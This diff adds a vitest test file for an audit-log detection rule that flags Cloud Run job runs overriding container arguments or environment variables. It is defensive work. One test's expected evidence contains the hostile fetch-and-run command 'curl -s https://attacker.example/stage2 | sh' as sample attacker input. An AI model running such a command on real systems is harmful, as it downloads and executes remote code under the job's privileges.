@@ -1,0 +1,90 @@
+// job-run-overrides: a Cloud Run job run (RunJob, a Data Access entry) that overrides its containers' arguments or
+// environment runs the caller's choice under the job's runtime service account. From the synthetic job fixtures
+// (no job entry is public; test/fixtures/synthetic-job-SOURCES.md) and variants of the run.
+import { describe, expect, it } from 'vitest';
+import { parseEntry } from '../../../functions/audit/normalize.js';
+import { OVERRIDE_ARG_MAX_LENGTH, OVERRIDE_ARGS_MAX } from '../../../functions/audit/job.js';
+import { at, synthetic, variant, type Json } from '../../support/entries.js';
+import { config, findingsLive, findingsOf } from '../../support/run.js';
+
+const create = synthetic('job-v1-CreateJob-gcloud'); // runs as exporter@
+const plainRun = synthetic('job-v2-RunJob-data-access'); // no overrides
+const run = synthetic('job-v2-RunJob-overrides'); // args `-c "curl ... | sh"`, EXPORT_TARGET, by mallory@
+
+/** The run with its `overrides` replaced. */
+function runWith(overrides: Record<string, unknown> | undefined, entry: Json = run): Json {
+  return variant(entry, (e) => {
+    const request = e.protoPayload['request'] as Record<string, unknown>;
+    if (overrides === undefined) delete request['overrides'];
+    else request['overrides'] = overrides;
+  });
+}
+
+/** The run as a v1 entry (namespaces.jobs.run: the same overrides, `timeoutSeconds`). */
+const v1Run = variant(run, (e) => {
+  e.protoPayload['methodName'] = 'google.cloud.run.v1.Jobs.RunJob';
+  e.protoPayload['resourceName'] = 'namespaces/acme-prod/jobs/nightly-export';
+  const request = e.protoPayload['request'] as Record<string, any>;
+  request['name'] = 'namespaces/acme-prod/jobs/nightly-export';
+  request['overrides'] = { containerOverrides: [{ name: 'exporter', args: ['--dump-all'] }], timeoutSeconds: 60 };
+});
+
+async function overrides(entries: readonly unknown[], cfg = config()) {
+  return (await findingsOf(entries, cfg)).filter((f) => f.rule === 'job-run-overrides');
+}
+
+describe('job-run-overrides', () => {
+  it.each([
+    ['arguments and a variable, after the job was seen (v2)', [create, run], 'HIGH', { args: ['-c', 'curl -s https://attacker.example/stage2 | sh'], environmentVariables: ['EXPORT_TARGET'], runtimeServiceAccount: 'exporter@acme-prod.iam.gserviceaccount.com' }],
+    ['arguments, the job never seen (its identity unknown)', [run], 'HIGH', { runtimeServiceAccount: null }],
+    ['arguments cleared', [create, runWith({ containerOverrides: [{ clearArgs: true }] })], 'HIGH', { clearArgs: true }],
+    ['environment variables only', [create, runWith({ containerOverrides: [{ env: [{ name: 'DEBUG', value: '1' }, { name: 'TARGET', value: 'x' }] }] })], 'MEDIUM', { environmentVariables: ['DEBUG', 'TARGET'] }],
+    ['a v1 run (namespaces.jobs.run)', [create, v1Run], 'HIGH', { containers: ['exporter'], args: ['--dump-all'], timeout: '60s' }],
+  ])('fires on a run with %s', async (_name, entries, severity, evidence) => {
+    const findings = await overrides(entries);
+    expect(findings).toHaveLength(1);
+    expect(findings[0]).toMatchObject({ severity, resourceType: 'job', service: 'nightly-export', evidence });
+    expect(findings[0]!.summary).toContain('job acme-prod/nightly-export (us-central1)');
+  });
+
+  it('fires in the live pipeline too, at once', async () => {
+    expect(await findingsLive([create, run])).toEqual(expect.arrayContaining([expect.objectContaining({ rule: 'job-run-overrides', principal: 'mallory@acme.example' })]));
+  });
+
+  it.each([
+    ['a run without overrides', [create, plainRun]],
+    ['a run overriding the task count and timeout only', [create, runWith({ taskCount: 3, timeout: '60s' })]],
+    ['a run with empty container overrides', [create, runWith({ containerOverrides: [{ name: 'exporter' }, {}] })]],
+    ['a run that failed', [create, variant(run, (e) => void (e.protoPayload['status'] = { code: 7, message: 'Permission run.jobs.runWithOverrides denied' }))]],
+    ['a validateOnly run', [create, variant(run, (e) => void ((e.protoPayload['request'] as Json)['validateOnly'] = true))]],
+    ['the same run delivered twice', [create, run, run]],
+  ])('ignores %s (or reports it once)', async (name, entries) => {
+    expect(await overrides(entries)).toHaveLength(name.startsWith('the same') ? 1 : 0);
+  });
+
+  it('ignores a RunJob in the Admin Activity log (it is never logged there): no deploy either', async () => {
+    const misfiled = variant(run, (e) => void (e['logName'] = 'projects/acme-prod/logs/cloudaudit.googleapis.com%2Factivity'));
+    expect(parseEntry(misfiled)).toMatchObject({ kind: 'skipped', reason: 'cloud-run-job' });
+  });
+
+  it('ignores runs by an exempt caller or of an exempt job', async () => {
+    expect(await overrides([create, run], config({ rules: { 'job-run-overrides': { exceptions: [{ principal: 'mallory@acme.example' }] } } }))).toEqual([]);
+    expect(await overrides([create, run], config({ rules: { 'job-run-overrides': { exceptions: [{ service: 'acme-prod/nightly-*' }] } } }))).toEqual([]);
+    expect(await overrides([create, run], config({ rules: { 'job-run-overrides': { enabled: false } } }))).toEqual([]);
+  });
+
+  it('two runs are two findings', async () => {
+    const again = at(run, '2025-03-10T11:05:00Z');
+    expect(new Set((await overrides([create, run, again])).map((f) => f.id)).size).toBe(2);
+  });
+
+  it('keeps the arguments bounded and never a variable value', async () => {
+    const many = Array.from({ length: OVERRIDE_ARGS_MAX + 5 }, (_, i) => `${i}:${'x'.repeat(OVERRIDE_ARG_MAX_LENGTH * 2)}`);
+    const [finding] = await overrides([create, runWith({ containerOverrides: [{ args: many, env: [{ name: 'TOKEN', value: 'sk_live_not_a_real_secret' }] }] })]);
+    const args = finding!.evidence['args'] as readonly string[];
+    expect(args).toHaveLength(OVERRIDE_ARGS_MAX + 1);
+    expect(args.at(-1)).toBe('… 5 more');
+    expect(args.every((a) => a.length <= OVERRIDE_ARG_MAX_LENGTH)).toBe(true);
+    expect(JSON.stringify(finding)).not.toContain('sk_live_not_a_real_secret');
+  });
+});
